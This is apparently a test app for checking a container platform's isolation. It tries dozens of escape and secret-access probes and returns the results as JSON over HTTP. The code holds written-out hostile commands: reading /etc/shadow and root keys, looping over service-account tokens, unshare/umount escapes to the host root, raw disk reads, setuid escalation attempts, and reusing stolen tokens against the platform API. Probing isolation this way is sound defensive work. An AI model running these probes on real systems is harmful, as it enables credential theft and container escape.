// A program of somebody who wants out: tries every way that it knows and tells what it got. Runs as an app; told in the query what to look for.
// Where it gets through it only opens, and changes nothing: it runs on the machine of whoever runs the tests.
'use strict'
/* global require */
const { execFileSync, spawnSync } = require('node:child_process')
const fs = require('node:fs')
const http = require('node:http')
const net = require('node:net')

const read = (path) => fs.readFileSync(path, 'latin1').slice(0, 4096)
const open = (path) => `opened ${fs.openSync(path, 'r+')}`
const list = (path) => fs.readdirSync(path).join(' ')
const run = (file, ...args) => {
  const { stdout, stderr, error } = spawnSync(file, args, { encoding: 'latin1', timeout: 3000 })
  if (error) throw error
  return `${stdout} ${stderr}`.slice(0, 4096)
}
const shell = (script) => run('sh', '-c', script)

/** Whether a program listens there and takes a connection. */
const reach = (place) =>
  new Promise((resolve) => {
    const socket = net.connect(place)
    socket.on('connect', () => resolve('connected')).on('error', (error) => resolve(`refused ${error.code}`))
    setTimeout(() => resolve('silent'), 1500).unref()
  })

const ask = (port, path, headers) =>
  new Promise((resolve) => {
    const request = http.get({ port, path, headers, host: '127.0.0.1' }, (response) => {
      let text = ''
      response.on('data', (part) => (text += part)).on('end', () => resolve(`${response.statusCode} ${text}`.slice(0, 500)))
    })
    request.on('error', (error) => resolve(`refused ${error.code}`))
  })

/** Everything that other processes show of themselves. */
function processes() {
  const found = []
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
    for (const file of ['environ', 'cmdline', 'maps', 'root/run/secrets', 'cwd', 'fd']) {
      try {
        const path = `/proc/${pid}/${file}`
        found.push(`${pid} ${file}: ${fs.statSync(path).isDirectory() ? list(path) : read(path)}`)
      } catch {
        // Not to be had: what should be.
      }
    }
  }
  return found.join('\n')
}

const WAYS = ({ home, pid, api, ports }) => ({
  'who it is': () => `${process.getuid()} ${/CapEff:\s+(\w+)/.exec(read('/proc/self/status'))[1]} ${/NoNewPrivs:\s+(\d)/.exec(read('/proc/self/status'))[1]}`,
  'the database': () => read(`${home}/data/everleaf.db`),
  'the root key': () => read(`${home}/keys/root.key`),
  'the login': () => read(`${home}/login.json`),
  'the sealed snapshot': () => read(`${home}/run/snapshot.sealed`),
  'the home': () => list(home),
  'mounts of others': () => list(`${home}/run/mounts`),
  'images of others': () => list(`${home}/data/images`),
  'logs of others': () => list(`${home}/data/logs`),
  'the socket of core': () => reach({ path: `${home}/run/core.sock` }),
  'the socket of edge': () => reach({ path: `${home}/run/edge.sock` }),
  'the real root, covered': () => `${list('/.e')}|${list('/.e/host')}`,
  'the real root, uncovered': () => shell('umount /.e; ls /.e /.e/host'),
  'the real root in a namespace of its own': () => shell('unshare -Urm sh -c "umount -l /.e; ls /.e /.e/host; cat /.e/host/etc/shadow" || unshare -m true'),
  'the real root by /proc/1': () => `${list('/proc/1/root')} ${read('/proc/1/environ')}`,
  'processes of others': processes,
  'a process by its outer number': () => `${read(`/proc/${pid}/environ`)}`,
  'memory of the first process': () => open('/proc/1/mem'),
  'signals to others': () => {
    const sent = []
    for (const target of [1, pid])
      try {
        process.kill(target, 0)
        sent.push(target)
      } catch {
        // As it should be.
      }
    return sent.length > 0 ? `may signal ${sent}` : 'refused'
  },
  'a mount of its own': () => run('mount', '-t', 'tmpfs', 'tmpfs', '/tmp'),
  'a mount by bind': () => run('mount', '--bind', '/', '/tmp'),
  'set-uid programs': () => `${shell('su -c id </dev/null; sudo -n id; pkexec id </dev/null; newgrp root </dev/null; id -u')}`,
  'a device node': () => run('mknod', '/tmp/disk', 'b', '8', '0'),
  'disks and memory': () => shell('for f in /dev/sda /dev/vda /dev/nvme0n1 /dev/mem /dev/kmem /dev/port; do head -c 16 $f && echo GOT $f; done'),
  'kernel settings': () =>
    shell(
      'for f in /proc/sys/kernel/core_pattern /sys/kernel/mm/ksm/run; do (exec 3<>$f) && echo GOT $f; done; mkdir /sys/fs/cgroup/everleaf-x && echo GOT && rmdir /sys/fs/cgroup/everleaf-x',
    ),
  'the clock': () => shell('date -s @$(date +%s) && echo GOT'),
  'the host name': () => shell('hostname "$(hostname)" && echo GOT'),
  'a low port': () =>
    new Promise((resolve) =>
      net
        .createServer()
        .on('error', (error) => resolve(`refused ${error.code}`))
        .listen(81, '127.0.0.1', () => resolve('bound')),
    ),
  'raw packets': () => shell("python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' && echo GOT"),
  'the code of the app': () => open('/app/server.js'),
  'the hosts file': () => open('/etc/hosts'),
  'the token': () => open('/run/secrets/codeengine.cloud.ibm.com/compute-resource-token/token'),
  'the token of its service account': () => open('/run/secrets/kubernetes.io/serviceaccount/token'),
  'tokens of service accounts': () =>
    shell(
      'for f in /run/secrets/*/*/token /proc/*/root/run/secrets/*/*/token /.e/i/*/*/token /proc/*/root/.e/i/*/*/token; do cat $f 2>/dev/null && echo; done',
    ),
  'the trust': () => open(process.env.NODE_EXTRA_CA_CERTS),
  'programs of the machine': () =>
    shell(
      'for d in /usr /usr/bin /etc /opt /everleaf /everleaf/node /everleaf/trust / /var /run; do touch $d/everleaf-x 2>/dev/null && echo GOT $d && rm $d/everleaf-x; done',
    ),
  'temp of others': () => shell('ls -laR /tmp /var/tmp /home /dev/shm; cat /dev/shm/* /tmp/* /var/tmp/*'),
  'open files': () =>
    fs
      .readdirSync('/proc/self/fd')
      .map((fd) => {
        try {
          return fs.readlinkSync(`/proc/self/fd/${fd}`)
        } catch {
          return ''
        }
      })
      .join(' '),
  'its environment': () => JSON.stringify(process.env),
  'a core dump': () => shell('ulimit -c; ulimit -c unlimited; ulimit -c'),
  passwords: () => read('/etc/shadow'),
  'the API without a token': () => ask(api, '/codeengine/v2/projects', {}),
  'the API with its own token as it is': () =>
    ask(api, '/codeengine/v2/projects', { authorization: `Bearer ${read('/run/secrets/codeengine.cloud.ibm.com/compute-resource-token/token')}` }),
  'the API with its service account': () =>
    ask(api, '/codeengine/v2/projects', { authorization: `Bearer ${read('/run/secrets/kubernetes.io/serviceaccount/token')}` }),
  'the API of Kubernetes with the other token': () =>
    ask(api, '/kubernetes/apis', { authorization: `Bearer ${read('/run/secrets/codeengine.cloud.ibm.com/compute-resource-token/token')}` }),
  'the link by the API port': () => ask(api, '/link', { connection: 'upgrade', upgrade: 'everleaf-link' }),
  'the inside of links': () => shell('ln -s / /tmp/root; ls /tmp/root/.e /tmp/root/root /tmp/root/work 2>&1; cat /tmp/root/etc/shadow'),
  'the root by an open folder': () => {
    const fd = fs.openSync('/', 'r')
    return list(`/proc/self/fd/${fd}/.e`) + list(`/proc/self/fd/${fd}/../.e`)
  },
  'a debugger': () => execFileSync('sh', ['-c', 'strace -p 1 -o /dev/null & sleep 0.2; kill %1 2>/dev/null'], { encoding: 'latin1', timeout: 3000 }),
  'ports of the platform': async () => (await Promise.all(ports.map((port) => reach({ port, host: '127.0.0.1' })))).join(' '),
})

http
  .createServer(async (request, response) => {
    const url = new URL(request.url, 'http://x')
    if (url.pathname !== '/try') return response.end('ready')
    const facts = JSON.parse(url.searchParams.get('facts'))
    const got = {}
    for (const [way, work] of Object.entries(WAYS(facts))) {
      try {
        got[way] = String(await work())
      } catch (error) {
        got[way] = `refused ${error.code ?? error.message}`
      }
    }
    response.end(JSON.stringify(got))
  })
  .listen(process.env.PORT)
process.on('SIGTERM', () => process.exit(0))
